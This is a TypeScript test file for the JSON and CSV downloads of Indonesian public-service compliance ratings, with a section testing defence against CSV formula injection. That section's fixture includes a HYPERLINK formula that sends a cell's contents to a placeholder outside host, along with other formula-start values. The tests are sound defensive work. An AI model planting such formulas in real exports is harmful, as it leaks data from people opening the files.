import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { joined, prettyJson, roundCsv as roundCsvPieces, roundHead, roundJson as roundJsonPieces, type PublishedResult } from '../../src/view/downloads.ts';
import type { Round } from '../../src/domain/types.ts';
import { defaultRound } from '../../src/ingest/rounds.ts';
import { csvCell } from '../../src/view/csv-cell.ts';
import { allRoundsCsv as allRoundsCsvPieces, allRoundsJson, allRoundsJsonFrom, regionHistoryCsv } from '../../src/view/dataset-downloads.ts';
import { urls } from '../../src/view/urls.ts';

const roundJson = (...args: Parameters<typeof roundJsonPieces>) => joined(roundJsonPieces(...args));
const roundCsv = (...args: Parameters<typeof roundCsvPieces>) => joined(roundCsvPieces(...args));

const base: PublishedResult = {
  code: '18.72',
  name: 'Metro',
  kind: 'kota',
  province: '18',
  slug: 'kota-metro',
  score: 80.85,
  zone: 'hijau',
  band: 'Kualitas Tinggi',
  grade: 'B',
  rank: 3,
  rankOf: 98,
  provinceRank: 1,
  provinceRankOf: 15,
  previousYear: 2022,
  previousScore: 79.1,
  scoreChange: 1.75,
  previousRank: 5,
  rankChange: 2,
  predicate: null,
  opinion: 'Kualitas Tinggi',
  methodBreak: false,
  previousRankOf: 98,
  provinceName: 'Lampung',
  dimensions: { input: 85.2 },
};
const R2023: Round = { ...defaultRound(2023), published: '2023-12-12', source: 'https://ombudsman.go.id/', dimensions: [{ key: 'input', label: 'Input' }] };
/** What data/2023.json says of its round, written out by hand. */
const HEAD_2023 = {
  year: 2023,
  title: 'Penilaian Kepatuhan Standar Pelayanan Publik 2023',
  published: '2023-12-12',
  source: 'https://ombudsman.go.id/',
  method: 'kepatuhan',
  sample: false,
  predicates: [],
  bands: [
    { min: 81, zone: 'hijau', label: 'Kepatuhan Tinggi', grade: null },
    { min: 51, zone: 'kuning', label: 'Kepatuhan Sedang', grade: null },
    { min: 0, zone: 'merah', label: 'Kepatuhan Rendah', grade: null },
  ],
  dimensions: [{ key: 'input', label: 'Input' }],
};
const province: PublishedResult = {
  ...base,
  code: '18',
  name: 'Lampung, "Sai Bumi"',
  kind: 'provinsi',
  province: null,
  slug: 'provinsi-lampung',
  grade: null,
  provinceRank: null,
  provinceRankOf: null,
  previousYear: null,
  previousScore: null,
  scoreChange: null,
  previousRank: null,
  rankChange: null,
  previousRankOf: null,
  provinceName: null,
  dimensions: {},
};

describe('data/YYYY.json and data/YYYY.csv', () => {
  it('JSON is the round (year, title, date, source, method, sample, predicates, bands, dimensions), then its results', () => {
    expect(JSON.parse(roundJson(R2023, [base]))).toEqual({ ...HEAD_2023, results: [base] });
    expect(roundHead(R2023)).toEqual(HEAD_2023);
  });

  it("JSON lists the contract's fields only, in its order, whatever else a row carries", () => {
    // The view hands its rows (results with a label and links) to the downloads.
    const row = { label: 'Kota Metro', url: '/wilayah/kota-metro/', ...base, headline: 'Zona Hijau' };
    const text = roundJson(R2023, [row]);
    expect(text).toBe(roundJson(R2023, [base]));
    expect(Object.keys((JSON.parse(text) as { results: object[] }).results[0]!)).toEqual(Object.keys(base));
  });

  it('CSV columns equal the JSON fields, dimensions flattened as dimensions.<key>', () => {
    const csv = roundCsv([province, base], [{ key: 'input', label: 'Input' }]);
    const [header, ...rows] = parse(csv) as string[][];
    const fields = Object.keys(base).filter((k) => k !== 'dimensions');
    expect(header).toEqual([...fields, 'dimensions.input']);
    // Every cell is the JSON value written out; null is an empty cell.
    const json = JSON.parse(roundJson(R2023, [province, base])) as { results: Record<string, unknown>[] };
    json.results.forEach((result, i) => {
      const expected = [...fields.map((f) => result[f]), (result.dimensions as Record<string, number>).input].map((v) =>
        v === null || v === undefined ? '' : String(v),
      );
      expect(rows[i]).toEqual(expected);
    });
  });

  it('writes the hand-worked rows, quoting where needed, CRLF line ends', () => {
    expect(roundCsv([province, base], [{ key: 'input', label: 'Input' }])).toBe(
      'code,name,kind,province,slug,score,zone,band,grade,rank,rankOf,provinceRank,provinceRankOf,previousYear,previousScore,scoreChange,previousRank,rankChange,predicate,opinion,methodBreak,previousRankOf,provinceName,dimensions.input\r\n' +
        '18,"Lampung, ""Sai Bumi""",provinsi,,provinsi-lampung,80.85,hijau,Kualitas Tinggi,,3,98,,,,,,,,,Kualitas Tinggi,false,,,\r\n' +
        '18.72,Metro,kota,18,kota-metro,80.85,hijau,Kualitas Tinggi,B,3,98,1,15,2022,79.1,1.75,5,2,,Kualitas Tinggi,false,98,Lampung,85.2\r\n',
    );
  });
});

describe('downloads in pieces', () => {
  it('prettyJson gives JSON.stringify(…, null, 2) byte for byte, whatever the fields and however many items', () => {
    const key = fc.string({ minLength: 1, maxLength: 8 });
    // The array's field comes last: not an array index, which JavaScript orders first.
    const last = key.filter((k) => !/^(0|[1-9][0-9]*)$/.test(k));
    fc.assert(
      fc.property(
        fc.dictionary(key, fc.jsonValue({ maxDepth: 2 })),
        last,
        fc.array(fc.jsonValue({ maxDepth: 3 }), { maxLength: 1200 }),
        (head, field, items) => {
          const rest = Object.fromEntries(Object.entries(head).filter(([k]) => k !== field));
          expect(joined(prettyJson(rest, field, items))).toBe(`${JSON.stringify({ ...rest, [field]: items }, null, 2)}\n`);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('prettyJson refuses a field that JavaScript would not put last', () => {
    expect(() => [...prettyJson({ a: 1 }, '0', [])]).toThrow(/would not be the last field/);
  });

  it('a large round comes in pieces of a few hundred rows, which together are the whole file', () => {
    const results = Array.from({ length: 1234 }, (_, i) => ({ ...base, code: `18.${i}`, rank: i + 1 }));
    const pieces = [...roundCsvPieces(results, [{ key: 'input', label: 'Input' }])];
    expect(pieces.length).toBe(3);
    expect(parse(pieces.join(''))).toHaveLength(1235);
    const json = [...roundJsonPieces(R2023, results)];
    expect(json.length).toBe(5); // the opening, three pieces of at most 500 results, the closing
    expect(json.join('')).toBe(`${JSON.stringify({ ...HEAD_2023, results }, null, 2)}\n`);
  });
});

describe("data/semua.json from the rounds' files as written", () => {
  const SITE = 'https://kepatuhan.example.id';
  /**
   * The rounds' files as writeFiles would read them back: their bytes cut at the given sizes (a cut
   * may fall inside a character), each piece read into the same buffer, scribbled over before the next.
   */
  const writtenFiles = (rounds: readonly Round[], results: ReadonlyMap<number, readonly PublishedResult[]>, cuts: readonly number[]) => {
    const files = new Map(rounds.map((r) => [urls.roundJson(r.year), Buffer.from(joined(roundJsonPieces(r, results.get(r.year) ?? [])))]));
    return (url: string) => {
      const bytes = files.get(url);
      if (!bytes) return null;
      return (function* () {
        const reused = Buffer.alloc(bytes.length);
        for (let at = 0, i = 0; at < bytes.length; i++) {
          const size = cuts.length > 0 ? cuts[i % cuts.length]! : bytes.length;
          reused.fill('{');
          const n = bytes.copy(reused, 0, at, at + size);
          yield reused.subarray(0, n);
          at += size;
        }
        reused.fill('{');
      })();
    };
  };
  const text = fc.oneof(
    fc.string({ maxLength: 12 }),
    fc.string({ unit: 'grapheme', maxLength: 6 }),
    fc.constantFrom('\n    {\n', '    {', '{"a": 1}', '\n  ]\n}\n', 'Ké\u00e9 ✓ 😀', '"results": ['),
  );
  const result = fc
    .record({ code: text, name: text, score: fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null)), extra: text })
    .map(({ code, name, score, extra }): PublishedResult => ({
      ...base,
      code,
      name,
      score: score as number,
      band: extra,
      dimensions: extra ? { [extra]: 1 } : {},
    }));

  it('is byte for byte what allRoundsJson makes, however the files are cut into pieces, with empty rounds too', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.integer({ min: 2015, max: 2030 }), { maxLength: 4 }),
        fc.array(fc.array(result, { maxLength: 5 }), { minLength: 4, maxLength: 4 }),
        fc.array(fc.integer({ min: 1, max: 40 }), { maxLength: 5 }),
        text,
        (years, lists, cuts, title) => {
          const rounds = years.map((year) => ({ ...R2023, year, title: `${title} ${year}` }));
          const results = new Map(years.map((year, i) => [year, lists[i]!]));
          const stitched = allRoundsJsonFrom(rounds, writtenFiles(rounds, results, cuts), SITE);
          expect(stitched).not.toBeNull();
          expect(joined(stitched!)).toBe(joined(allRoundsJson(rounds, results, SITE)));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('gives each result its year first, rounds oldest first (hand-worked)', () => {
    const rounds = [R2023, { ...R2023, year: 2021 }];
    const results = new Map([
      [2023, [base]],
      [2021, [province, base]],
    ]);
    const json = JSON.parse(joined(allRoundsJsonFrom(rounds, writtenFiles(rounds, results, [7]), SITE)!)) as { results: { year: number; code: string }[] };
    expect(json.results.map((r) => [r.year, r.code])).toEqual([
      [2021, '18'],
      [2021, '18.72'],
      [2023, '18.72'],
    ]);
    expect(Object.keys(json.results[0]!)).toEqual(['year', ...Object.keys(base)]);
  });

  it("is made from the view when a round's file was not written, and refuses a file that is not a round's JSON", () => {
    const results = new Map([[2023, [base]]]);
    expect(allRoundsJsonFrom([R2023], () => null, SITE)).toBeNull();
    const broken = allRoundsJsonFrom([R2023], () => [Buffer.from('{\n  "results": [\n    {}\n')], SITE)!;
    expect(() => joined(broken)).toThrow(/data\/2023\.json: .*tidak berbentuk JSON putaran/);
    expect(joined(allRoundsJsonFrom([R2023], writtenFiles([R2023], results, []), SITE)!)).toBe(joined(allRoundsJson([R2023], results, SITE)));
  });
});

describe('CSV cells never start a formula (OWASP CSV injection)', () => {
  const FORMULA = /^[=+\-@\t\r]/;
  const hostile: PublishedResult = {
    ...base,
    code: '-18',
    name: '=HYPERLINK("http://x.example/?"&A1,"klik")',
    province: '+18',
    slug: '@slug',
    band: '\t=1+2',
    grade: '\r-A',
    scoreChange: -1.5,
    rankChange: -3,
  };

  it("prefixes ' to text starting with = + - @ tab or CR; numbers, negative ones too, stay numbers", () => {
    const [header, row] = parse(roundCsv([hostile], [])) as string[][];
    const cell = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
    expect(cell).toMatchObject({
      code: "'-18",
      name: `'${hostile.name}`,
      kind: 'kota',
      province: "'+18",
      slug: "'@slug",
      score: '80.85',
      band: "'\t=1+2",
      grade: "'\r-A",
    });
    expect(cell).toMatchObject({ scoreChange: '-1.5', rankChange: '-3' });
    // The JSON keeps the true value.
    expect((JSON.parse(roundJson(R2023, [hostile])) as { results: PublishedResult[] }).results[0]!.name).toBe(hostile.name);
  });

  it('every download made of the same rows: all-rounds and region history CSVs too', () => {
    const round = {
      year: 2023,
      title: 'x',
      published: null,
      source: null,
      bands: [],
      dimensions: [{ key: 'input', label: 'Input' }],
      html: '',
    } as unknown as Round;
    for (const csv of [allRoundsCsvPieces([round], new Map([[2023, [hostile]]])), regionHistoryCsv([{ year: 2023, result: hostile }], [round])]) {
      const rows = parse(joined(csv)) as string[][];
      for (const cell of rows.flat()) expect(FORMULA.test(cell) && !/^-\d/.test(cell), cell).toBe(false);
    }
  });

  it('property: any text cell reads back as itself, or itself after a leading quote that only a formula start gets', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom('=1+2', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', "'=1", '"=1"')), (text) => {
        const cell = csvCell(text);
        const [[read]] = parse(`${cell}\r\n`, { relax_quotes: true, skip_empty_lines: false }) as string[][] as [[string]];
        if (FORMULA.test(text)) expect(read).toBe(`'${text}`);
        else expect(read ?? '').toBe(text);
        expect(FORMULA.test(read ?? '')).toBe(false);
      }),
      { numRuns: 300 },
    );
    fc.assert(
      fc.property(fc.double({ noNaN: true }), (n) => {
        expect(csvCell(n)).toBe(String(n));
      }),
    );
  });
});
